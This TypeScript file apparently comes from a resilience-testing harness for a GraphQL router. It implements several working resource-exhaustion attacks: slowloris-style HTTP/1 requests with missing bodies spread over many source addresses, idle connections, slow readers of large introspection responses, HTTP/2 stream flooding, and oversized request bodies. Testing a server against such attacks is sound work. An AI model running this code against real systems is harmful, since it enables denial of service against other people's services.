/**
 * Attacks that hold something of a router instead of computing: places, connections, memory for answers that
 * nobody reads.
 */
import { connect as connectHttp2 } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { type Attack, counted, type Field } from './attack.ts'
import { sendOnConnections } from './cut-input.ts'

const MOST_CONNECTIONS = 1500
/** More than all the requests that may wait for their bodies, from one address and from all of them. */
const UNSENT_CONNECTIONS = 11_000
const UNSENT_ADDRESSES = Array.from({ length: 11 }, (_, index) => `127.0.1.${index + 1}`)
const HTTP2_CONNECTIONS = 40
const STREAMS = 256
/** The pause between two looks at the number of connections. */
const PAUSE_MS = 20

export const UNSENT_BODIES: Attack = {
  name: '4: requests whose bodies do not arrive, HTTP/1',
  run: (field) =>
    holdConnections({ ...field, addresses: UNSENT_ADDRESSES }, UNSENT_CONNECTIONS, () =>
      Buffer.from(
        'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n{',
      ),
    ),
}

export const SILENT_CONNECTIONS: Attack = {
  name: '4: connections without a request',
  run: (field) => holdConnections(field, MOST_CONNECTIONS, () => Buffer.alloc(0)),
}

const BIG_ANSWER = JSON.stringify({
  query:
    '{ __schema { types { name fields { name type { name kind } args { name } } possibleTypes { name } } } }',
})

export const SLOW_READERS: Attack = {
  name: '13: answers that nobody reads',
  run: (field) =>
    holdConnections(field, 100, () =>
      Buffer.from(
        `POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${BIG_ANSWER.length}\r\n\r\n${BIG_ANSWER}`.repeat(
          50,
        ),
      ),
    ),
}

/**
 * Keeps a number of connections open, each of which sends its bytes and reads nothing. `addresses` are those
 * of the attacker, if it has more than one.
 */
export async function holdConnections(
  { addresses, ...field }: Field & { readonly addresses?: readonly string[] },
  count: number,
  bytesOf: () => Buffer,
): Promise<void> {
  const { host, port, address, signal, tally } = field
  const open = new Set<Socket>()
  const add = (): void => {
    const bytes = bytesOf()
    const localAddress = addresses?.[open.size % addresses.length] ?? address
    const socket = connect({ host, port, localAddress }, () => {
      socket.write(bytes)
      tally.requests++
      tally.bytes += bytes.length
    })
    socket.pause()
    open.add(socket)
    socket.on('error', () => undefined)
    socket.on('close', () => {
      open.delete(socket)
      if (!signal.aborted) counted(tally, 'closed')
    })
  }
  while (!signal.aborted) {
    for (let missing = Math.min(100, count - open.size); missing > 0; missing--) add()
    await delay(PAUSE_MS, undefined, { signal }).catch(() => undefined)
  }
  for (const socket of open) socket.destroy()
}

export const UNSENT_STREAMS: Attack = {
  name: '4: requests whose bodies do not arrive, HTTP/2',
  async run({ host, port, address, signal, tally }) {
    const hold = async (): Promise<void> => {
      while (!signal.aborted) {
        const session = connectHttp2(`http://${host}:${port}`, { localAddress: address } as never)
        session.on('error', () => undefined)
        const closed = new Promise<void>((resolve) => {
          session.once('close', resolve)
        })
        for (let stream = 0; stream < STREAMS; stream++) {
          const request = session.request({
            ':method': 'POST',
            ':path': '/graphql',
            'content-type': 'application/json',
          })
          tally.requests++
          tally.bytes += 60
          request.on('error', () => undefined)
          request.on('response', (headers) => {
            counted(tally, String(headers[':status']))
            request.close()
          })
          request.resume()
        }
        const stop = () => session.destroy()
        signal.addEventListener('abort', stop, { once: true })
        // A session all of whose requests were refused is of no more use.
        const used = delay(500, undefined, { signal }).catch(() => undefined)
        await Promise.race([closed, used])
        signal.removeEventListener('abort', stop)
        if (!session.closed) session.destroy()
      }
    }
    await Promise.all(Array.from({ length: HTTP2_CONNECTIONS }, hold))
  },
}

export const BODIES_TOO_LARGE: Attack = {
  name: '18: bodies that go on after they were refused',
  run: (field) =>
    sendOnConnections(
      field,
      4,
      Buffer.from(
        'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 99999999\r\n\r\n',
      ),
      Buffer.alloc(256 * 1024, 'x'),
    ),
}
